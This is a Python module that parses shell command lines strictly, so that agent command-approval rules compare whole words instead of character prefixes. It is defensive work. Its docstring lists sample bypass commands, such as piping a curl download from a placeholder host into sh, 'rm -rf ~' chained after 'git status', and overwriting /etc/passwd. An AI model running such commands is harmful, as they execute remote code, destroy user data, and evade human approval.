"""A fail-closed reader of POSIX shell command lines, for approval rules on `execute_command`.

Why: approval rules used to auto-approve `execute_command` when the command text `startswith` an allowed prefix
such as "git status". Character prefixes know nothing of shell syntax, so every one of these ran without a prompt:

    git status; curl http://x.example | sh      git status && rm -rf ~       git status $(touch /tmp/p)
    git status > /etc/passwd                     git status `id`              git status | sh

This module reads a command line the way a POSIX shell would, but only as far as a *simple command*: one program
and its arguments, each a plain word. Rules then compare words, not characters. Whatever the reader does not fully
understand it refuses, with a short human-readable reason, and a refused command never matches an allow rule: a
false refusal costs a human one click, a false accept is a security hole.

Accepted grammar (everything else is refused):

* The command is at most `MAX_COMMAND_LENGTH` characters and has at least one word.
* Words are separated by blanks (space, tab). No other character separates words.
* Outside quotes a word is made of letters, digits, non-ASCII characters and ``- _ . / : , + @ %``, plus:
  ``#`` except at the start of a word (a comment there), ``=`` except at the start of a word followed by more
  text (zsh's ``=cmd``), ``~`` except at the start of a word or right after ``=`` or ``:`` (tilde expansion).
  (`shlex.quote` leaves a word like ``=x`` bare: when rendering words back into a command, single-quote them.)
* ``\\c`` outside quotes is the literal ``c`` when ``c`` is one of the characters above, a blank, a quote or a
  backslash. Escaping a metacharacter (``\\;``, ``\\$``, ``\\*``...) is refused: use single quotes.
* ``'...'``: everything up to the next single quote is literal (``'$(id)'`` is the word ``$(id)``).
* ``"..."``: literal text, where ``\\"`` and ``\\\\`` stand for ``"`` and ``\\`` and any other backslash is kept
  as is (POSIX sh and Python's `shlex` agree on all of these). Refused inside double quotes: ``$`` (any expansion)
  and backticks, even after a backslash (shells and tokenizers disagree on those escapes), ``!`` (bash history
  expansion) and ``; & | < >``. Those last ones would be inert in sh, but they are refused so that no
  metacharacter is ever accepted outside single quotes.
* Quote removal then yields the words: the first is the program, the rest its arguments. The program must not be
  empty, contain ``=`` (a leading ``VAR=x cmd`` assignment) or be a shell keyword (``if``, ``time``, ``coproc``...).

Refused, among others: ``; & && || | |&``, line breaks anywhere (also inside quotes), ``$(...)``, backticks,
``$VAR``, ``${...}``, ``$((...))``, ``$'...'``, ``<(...)``, ``>(...)``, every redirection (``< > >> 2> &> << <<<
>| >&``), subshells and groups ``( ) { }``, brace expansion, ``!``, ``^``, unquoted glob characters ``* ? [ ]``,
comments, tilde expansion, control characters (C0 but tab, DEL, C1), invisible or blank-looking Unicode characters
(zero-width, bidi controls, no-break spaces...) that would let an approver misread a command, and unterminated
quotes. The reader assumes a POSIX-style shell (sh, dash, bash, zsh) or an argv tokenizer compatible with it
(`shlex.split`); Windows `cmd.exe` quoting is not modelled, see `shell_metacharacters`.

This module is pure and deterministic (standard library only, no I/O), so it is safe inside workflow code. A
maintained parser such as bashlex is not a dependency: it is GPL-licensed, not installed, and it parses far more
than a fail-closed check should accept.
"""

from __future__ import annotations

import string
from dataclasses import dataclass

MAX_COMMAND_LENGTH = 10_000

_BLANKS = frozenset(" \t")
_WORD_CHARACTERS = frozenset(string.ascii_letters + string.digits + "-_./:,+@%")
# Characters that may follow a backslash outside quotes: the escape then only stands for the character itself.
_ESCAPABLE = _WORD_CHARACTERS | _BLANKS | frozenset("#=~'\"\\")
# Characters that are inert in sh between double quotes but still refused there, see the module docstring.
_REFUSED_IN_DOUBLE_QUOTES = frozenset(";&|<>")
_KEYWORDS = frozenset("case coproc do done elif else esac fi for function if in select then time until while".split())
_LINE_BREAKS = frozenset("\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029")
# Invisible, zero-width, bidi-control and blank-looking characters (explicit ranges rather than `unicodedata`, so
# the answer does not change with the Python version that replays a workflow).
_INVISIBLE_RANGES = (
    (0x00A0, 0x00A0),  # no-break space
    (0x00AD, 0x00AD),  # soft hyphen
    (0x034F, 0x034F),  # combining grapheme joiner
    (0x061C, 0x061C),  # Arabic letter mark
    (0x115F, 0x1160),  # Hangul fillers
    (0x1680, 0x1680),  # Ogham space mark
    (0x17B4, 0x17B5),  # Khmer inherent vowels
    (0x180B, 0x180F),  # Mongolian variation selectors and vowel separator
    (0x2000, 0x200F),  # typographic spaces, zero-width space/joiners, LRM, RLM
    (0x2028, 0x202F),  # line and paragraph separators, bidi embeddings and overrides, narrow no-break space
    (0x205F, 0x206F),  # medium math space, word joiner, invisible operators, bidi isolates
    (0x3000, 0x3000),  # ideographic space
    (0x3164, 0x3164),  # Hangul filler
    (0xD800, 0xDFFF),  # lone surrogates
    (0xFE00, 0xFE0F),  # variation selectors
    (0xFEFF, 0xFEFF),  # zero-width no-break space (BOM)
    (0xFFA0, 0xFFA0),  # halfwidth Hangul filler
    (0xFFF0, 0xFFFB),  # specials, interlinear annotation
    (0x1D173, 0x1D17A),  # musical symbol format characters
    (0xE0000, 0xE0FFF),  # tags, variation selectors supplement
)
# Every character `shell_metacharacters` reports, quoted or not (`%` and `^` are cmd.exe's). `~`, `#` and `=`
# matter only at certain places in a word, which `parse_simple_command` already refuses.
_METACHARACTERS = frozenset("|&;<>()$`\\\"'*?[]{}!^%") | _LINE_BREAKS


@dataclass(frozen=True)
class SimpleCommand:
    """A command line that is one program and its arguments, all plain words.

    Attributes:
        program: The first word after quote removal.
        args: The remaining words after quote removal, in order.
    """

    program: str
    args: tuple[str, ...] = ()

    @property
    def words(self) -> tuple[str, ...]:
        """The program followed by its arguments."""
        return (self.program, *self.args)


@dataclass(frozen=True)
class ShellRefusal:
    """Why a command line is not accepted as a simple command.

    Attributes:
        reason: A short phrase completing "the command ...", e.g. "chains commands with ';'".
    """

    reason: str


class _Refused(Exception):
    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


def parse_simple_command(command: str) -> SimpleCommand | ShellRefusal:
    """Read a command line as one simple command, or say why not.

    Never raises for any string: anything outside the grammar in the module docstring is a `ShellRefusal`.

    Args:
        command: The command line as an agent would pass it to `execute_command`.

    Returns:
        The program and arguments after quote removal, or a refusal with a short reason.
    """
    try:
        _check_characters(command)
        words = _split_words(command)
        _check_program(words)
    except _Refused as refused:
        return ShellRefusal(refused.reason)
    return SimpleCommand(program=words[0], args=tuple(words[1:]))


def command_matches_prefix(command: str, prefix: str) -> bool:
    """Whether a command starts with a prefix, word by word: the semantics of a `startswith` rule on a command.

    Both `command` and `prefix` must parse as simple commands; then the command's words (program and arguments)
    must begin with exactly the prefix's words. So "git status --short" and "'git' status" match "git status",
    while "git statusx", "git status; rm x" and "git status > f" do not. A prefix that does not parse (including
    an empty one) matches nothing.

    Args:
        command: The command line to check.
        prefix: The allowed leading words, written as a command line.

    Returns:
        True only when the command is a simple command beginning with the prefix's words.
    """
    parsed = parse_simple_command(command)
    expected = parse_simple_command(prefix)
    if isinstance(parsed, ShellRefusal) or isinstance(expected, ShellRefusal):
        return False
    return parsed.words[: len(expected.words)] == expected.words


def command_pattern(command: str, leading_tokens: int) -> tuple[str, ...] | None:
    """The program and its first `leading_tokens - 1` arguments, to remember e.g. "always allow `npm test`".

    Args:
        command: The command line.
        leading_tokens: How many words to keep, counting the program; at least 1. A shorter command keeps all.

    Returns:
        The leading words after quote removal, or None when the command is not a simple command.

    Raises:
        ValueError: If `leading_tokens` is less than 1.
    """
    if leading_tokens < 1:
        raise ValueError(f"leading_tokens must be at least 1, not {leading_tokens}")
    parsed = parse_simple_command(command)
    if isinstance(parsed, ShellRefusal):
        return None
    return parsed.words[:leading_tokens]


def shell_metacharacters(command: str) -> bool:
    """Whether a command meant for `execute_command` with `shell: true` might mean more than plain words.

    Stricter than `parse_simple_command` on purpose: which shell runs the text is not known (it may not even be a
    POSIX one, cmd.exe does not honour single quotes), so quoting is ignored and any quote, backslash or shell
    metacharacter anywhere counts, as does a command that does not parse at all.

    Args:
        command: The command line.

    Returns:
        True when the command contains shell syntax or cannot be read as a simple command.
    """
    if isinstance(parse_simple_command(command), ShellRefusal):
        return True
    return any(character in _METACHARACTERS for character in command)


def _check_characters(command: str) -> None:
    if len(command) > MAX_COMMAND_LENGTH:
        raise _Refused(f"is longer than {MAX_COMMAND_LENGTH} characters")
    if not command.strip(" \t"):
        raise _Refused("is empty")
    for character in command:
        code = ord(character)
        if character in _LINE_BREAKS:
            raise _Refused("spans several lines")
        if (code < 0x20 and character != "\t") or 0x7F <= code <= 0x9F:
            raise _Refused(f"contains the control character U+{code:04X}")
        if code >= 0xA0 and any(low <= code <= high for low, high in _INVISIBLE_RANGES):
            raise _Refused(f"contains the invisible or blank-looking character U+{code:04X}")


def _split_words(command: str) -> list[str]:
    words: list[str] = []
    word: list[str] = []  # the current word after quote removal, as non-empty pieces
    in_word = False  # a word has started (it may still be empty: '')
    i, end = 0, len(command)
    while i < end:
        character = command[i]
        if character in _BLANKS:
            if in_word:
                words.append("".join(word))
                word, in_word = [], False
            i += 1
            continue
        in_word = True
        if character == "'":
            close = command.find("'", i + 1)
            if close < 0:
                raise _Refused("has an unterminated single quote")
            if close > i + 1:
                word.append(command[i + 1 : close])
            i = close + 1
        elif character == '"':
            i = _read_double_quoted(command, i + 1, word)
        elif character == "\\":
            if i + 1 == end:
                raise _Refused("ends with a backslash")
            escaped = command[i + 1]
            if escaped.isascii() and escaped not in _ESCAPABLE:
                raise _Refused(f"escapes the shell metacharacter {escaped!r} (quote it with single quotes)")
            word.append(escaped)
            i += 2
        elif character == "#" and not word:
            raise _Refused("has a comment '#'")
        elif character == "~" and (not word or word[-1][-1:] in ("=", ":")):
            raise _Refused("uses tilde expansion '~'")
        elif character == "=" and not word and i + 1 < end and command[i + 1] not in _BLANKS:
            raise _Refused("starts a word with '=' (zsh expands '=command')")
        elif character in _WORD_CHARACTERS or character in "#~=" or not character.isascii():
            word.append(character)
            i += 1
        else:
            raise _Refused(_metacharacter_reason(command, i))
    if in_word:
        words.append("".join(word))
    return words


def _read_double_quoted(command: str, i: int, word: list[str]) -> int:
    """Append the text of a double-quoted string starting at `i` (after the quote); return the index past it."""
    end = len(command)
    while i < end:
        character = command[i]
        if character == '"':
            return i + 1
        if character == "\\" and i + 1 < end and command[i + 1] in '"\\':
            word.append(command[i + 1])
            i += 2
            continue
        if character == "\\":
            word.append(character)  # POSIX keeps it; a following '$' or '`' is refused on the next round
        elif character in "$`":
            raise _Refused(_metacharacter_reason(command, i))
        elif character == "!":
            raise _Refused("uses '!' inside double quotes (bash history expansion)")
        elif character in _REFUSED_IN_DOUBLE_QUOTES:
            raise _Refused(f"has {character!r} inside double quotes (use single quotes for a literal)")
        else:
            word.append(character)
        i += 1
    raise _Refused("has an unterminated double quote")


def _metacharacter_reason(command: str, i: int) -> str:
    character, rest = command[i], command[i + 1 :]
    if character == ";":
        return "chains commands with ';'"
    if character == "&":
        if rest.startswith("&"):
            return "chains commands with '&&'"
        if rest.startswith(">"):
            return "redirects output with '&>'"
        return "runs a command in the background with '&'"
    if character == "|":
        return "chains commands with '||'" if rest.startswith("|") else "pipes into another command with '|'"
    if character in "<>" and rest.startswith("("):
        return f"uses process substitution {character}(...)"
    if character == "<":
        if rest.startswith("<<"):
            return "uses a here-string '<<<'"
        return "uses a here-document '<<'" if rest.startswith("<") else "redirects input with '<'"
    if character == ">":
        return "redirects output with '>'"
    if character == "`":
        return "uses command substitution `...`"
    if character == "$":
        return _dollar_reason(rest)
    if character in "()":
        return "uses a subshell or grouping (...)"
    if character in "{}":
        return "uses a brace expansion or group {...}"
    if character in "*?[]":
        return f"uses a glob pattern {character!r}"
    if character == "!":
        return "uses '!' (history expansion or negation)"
    return f"uses the shell metacharacter {character!r}"


def _dollar_reason(rest: str) -> str:
    if rest.startswith("(("):
        return "uses arithmetic expansion $((...))"
    if rest.startswith("("):
        return "uses command substitution $(...)"
    if rest.startswith("{"):
        return "uses a variable expansion ${...}"
    if rest.startswith("'"):
        return "uses ANSI-C quoting $'...'"
    if rest.startswith('"'):
        return 'uses locale quoting $"..."'
    name_characters = string.ascii_letters + string.digits + "_"
    if rest[:1] and rest[0] in string.ascii_letters + "_":
        length = 1
        while length < min(len(rest), 40) and rest[length] in name_characters:
            length += 1
        return f"uses a variable expansion ${rest[:length]}"
    if rest[:1] and rest[0] in string.digits + "@*#?$!-":
        return f"uses a variable expansion ${rest[0]}"
    return "uses '$'"


def _check_program(words: list[str]) -> None:
    if not words:
        raise _Refused("is empty")
    program = words[0]
    if not program:
        raise _Refused("has an empty program name")
    if "=" in program:
        raise _Refused("sets a variable before the command")
    if program in _KEYWORDS:
        raise _Refused(f"starts with the shell keyword {program!r}")
